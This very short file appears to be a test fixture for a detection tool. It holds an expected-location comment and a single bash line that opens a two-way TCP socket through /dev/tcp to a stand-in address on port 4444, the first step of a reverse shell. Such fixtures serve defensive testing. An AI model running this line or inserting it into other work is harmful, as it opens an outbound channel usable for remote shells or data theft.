# expect: 2:3
exec 3<>/dev/tcp/203.0.113.7/4444
